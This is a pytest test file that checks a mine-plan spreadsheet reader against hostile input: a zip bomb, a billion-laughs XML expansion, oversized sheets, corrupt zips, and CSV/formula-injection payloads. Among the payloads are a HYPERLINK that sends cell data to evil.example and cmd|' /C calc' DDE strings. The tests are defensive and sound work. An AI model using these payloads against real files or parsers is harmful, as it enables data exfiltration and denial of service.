"""Hostile and broken plan files: a clear error or finding, bounded in time and memory."""
from __future__ import annotations

import re
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from minewatch.promised.findings import ERROR
from minewatch.promised.package import PlanFormatError
from minewatch.promised.planreader import read_plan_xlsx, read_plans
from minewatch.promised.planwriter import write_plan_xlsx
from minewatch.promised.validate import check_file
from minewatch.synth import sample

LIMIT_S = 10
LIMIT_MB = 300


@pytest.fixture(scope="module")
def clean(tmp_path_factory) -> Path:
    return write_plan_xlsx(sample.annual_plan(sample.MINES[0]),
                           tmp_path_factory.mktemp("clean") / "clean.xlsx")


def _rewrite(src: Path, dst: Path, member: str, fn) -> Path:
    """Copy the .xlsx with one member's bytes replaced by fn(old bytes)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            zout.writestr(info.filename, fn(data) if info.filename == member else data)
    return dst


def _bounded(fn):
    """Run fn(); return (result or exception, seconds, peak MB of Python allocations)."""
    tracemalloc.start()
    t = time.perf_counter()
    try:
        out = fn()
    except Exception as e:  # noqa: BLE001 - the caller checks which
        out = e
    dt = time.perf_counter() - t
    peak = tracemalloc.get_traced_memory()[1] / 2**20
    tracemalloc.stop()
    assert dt < LIMIT_S, dt
    assert peak < LIMIT_MB, peak
    return out


def test_zip_bomb(clean, tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(clean) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
        with zout.open("xl/worksheets/sheet2.xml", "w") as fh:   # 256 MiB of spaces, ~250 kB packed
            chunk = b" " * (1 << 20)
            for _ in range(256):
                fh.write(chunk)
    assert bomb.stat().st_size < 2_000_000
    e = _bounded(lambda: read_plan_xlsx(bomb))
    assert isinstance(e, PlanFormatError) and "压缩炸弹" in str(e) and "zip bomb" in str(e)
    (r,) = read_plans(bomb)
    assert r.plan is None and r.findings[0].rule == "NOT_A_PLAN_TABLE"


def test_billion_laughs(clean, tmp_path):
    dtd = (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY lol "lol">'
           + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                      for i in range(1, 10))
           + b"]>")

    def poison(data: bytes) -> bytes:
        data = data.replace("示例黑岱沟露天煤矿".encode(), b"&lol9;", 1)
        return dtd + data

    f = _rewrite(clean, tmp_path / "laughs.xlsx", "xl/worksheets/sheet1.xml", poison)
    e = _bounded(lambda: read_plan_xlsx(f))
    assert isinstance(e, PlanFormatError) and "DTD" in str(e)
    res = _bounded(lambda: check_file(f))
    assert res.plan is None and res.findings[0].rule == "NOT_A_PLAN_TABLE"


def test_huge_sheet_max_row_in_the_millions(clean, tmp_path):
    def far(data: bytes) -> bytes:
        extra = (b'<row r="3000000"><c r="A3000000" t="inlineStr"><is><t>x</t></is></c></row>'
                 b'<row r="3000001"><c r="XFD3000001" t="n"><v>1</v></c></row>')
        data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD3000001"', data)
        return data.replace(b"</sheetData>", extra + b"</sheetData>")

    f = _rewrite(clean, tmp_path / "far.xlsx", "xl/worksheets/sheet1.xml", far)
    assert load_workbook(f).active.max_row >= 3_000_000
    res = _bounded(lambda: read_plan_xlsx(f))
    assert not isinstance(res, Exception), res
    assert res.plan is not None and len(res.plan.units) == 4    # the table itself is unharmed


def test_too_many_cells(clean, tmp_path):
    def many(data: bytes) -> bytes:
        rows = b"".join(b'<row r="%d"><c r="H%d" t="n"><v>%d</v></c><c r="I%d" t="n"><v>1</v></c></row>'
                        % (r, r, r, r) for r in range(100, 130_100))
        return data.replace(b"</sheetData>", rows + b"</sheetData>")

    f = _rewrite(clean, tmp_path / "many.xlsx", "xl/worksheets/sheet1.xml", many)
    e = _bounded(lambda: read_plan_xlsx(f))
    assert isinstance(e, PlanFormatError) and "单元格过多" in str(e)


INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"]


def test_formula_injection_is_text_never_evaluated_and_stays_text_when_written(tmp_path):
    import dataclasses
    plan = sample.annual_plan(sample.MINES[0])
    units = list(plan.units)
    for i, text in enumerate(INJECTIONS[:len(units)]):
        units[i] = dataclasses.replace(units[i], quality=text, measures=text if units[i].section == "planned" else "")
    plan = dataclasses.replace(plan, units=tuple(units), holder=INJECTIONS[0], mine_name=INJECTIONS[2])
    p = write_plan_xlsx(plan, tmp_path / "inj.xlsx")
    xml = zipfile.ZipFile(p).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml          # written as text, not formulas
    ws = load_workbook(p).active                             # data_only=False: formulas would show
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    res = read_plan_xlsx(p)
    assert res.plan.holder == INJECTIONS[0] and res.plan.mine_name == INJECTIONS[2]
    want = sorted(INJECTIONS[i] for i, u in enumerate(units[:len(INJECTIONS)]) if u.section != "damage")
    assert sorted(u.quality for u in res.plan.units if u.quality in INJECTIONS) == want
    assert [u.measures for u in res.plan.units if u.section == "planned"] == \
        [u.measures for u in units if u.section == "planned"]
    # written back again: still text
    p2 = write_plan_xlsx(res.plan, tmp_path / "again.xlsx")
    assert b"<f>" not in zipfile.ZipFile(p2).read("xl/worksheets/sheet1.xml")
    from minewatch.promised.findings import spreadsheet_safe
    assert [spreadsheet_safe(t)[0] for t in INJECTIONS] == ["'"] * len(INJECTIONS)
    assert spreadsheet_safe("合格") == "合格"


def test_a_real_formula_cell_is_not_evaluated(clean, tmp_path):
    wb = load_workbook(clean)
    ws = wb.active
    res = read_plan_xlsx(clean)
    u = res.plan.units[-1]
    ws.cell(row=u.row, column=5, value="=2*2")               # a formula with no cached value
    wb.save(tmp_path / "f.xlsx")
    res = read_plan_xlsx(tmp_path / "f.xlsx")
    (f,) = [f for f in res.findings if f.row == u.row]
    assert f.rule == "MISSING_AREA" and f.severity == "warning"
    assert [x.area_hm2 for x in res.plan.units if x.row == u.row] == [None]


def test_a_bad_row_never_hides_the_good_rows(clean, tmp_path):
    wb = load_workbook(clean)
    ws = wb.active
    rows = [u.row for u in read_plan_xlsx(clean).plan.units]
    ws.cell(row=rows[0], column=2, value="1,abc,def\n2,1,2")     # unparsable
    ws.cell(row=rows[2], column=4, value="\ufffd草坪\u202e" * 50)   # garbage land class
    ws.cell(row=rows[1], column=5, value=float("nan"))              # damage area: nan
    wb.save(tmp_path / "bad.xlsx")
    res = check_file(tmp_path / "bad.xlsx")
    assert res.plan is not None
    assert {f.row for f in res.findings if f.severity == ERROR} >= {rows[0], rows[2]}
    assert rows[3] in {u.row for u in res.plan.units}
    assert len(res.plan.units) >= 1


def test_not_a_zip_and_truncated_zip(clean, tmp_path):
    (tmp_path / "a.xlsx").write_bytes(b"PK\x03\x04garbage")
    (tmp_path / "b.xlsx").write_bytes(clean.read_bytes()[:2000])
    for name in ("a.xlsx", "b.xlsx"):
        e = _bounded(lambda name=name: read_plan_xlsx(tmp_path / name))
        assert isinstance(e, PlanFormatError), e
